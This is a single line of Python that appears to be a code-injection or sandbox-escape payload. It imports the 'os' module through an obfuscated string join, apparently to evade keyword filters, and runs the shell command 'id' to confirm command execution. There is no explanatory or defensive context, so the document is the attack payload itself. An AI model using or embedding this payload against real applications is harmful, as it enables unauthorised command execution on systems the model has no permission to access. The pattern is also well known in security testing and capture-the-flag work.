__import__('o'+'s').system('id')
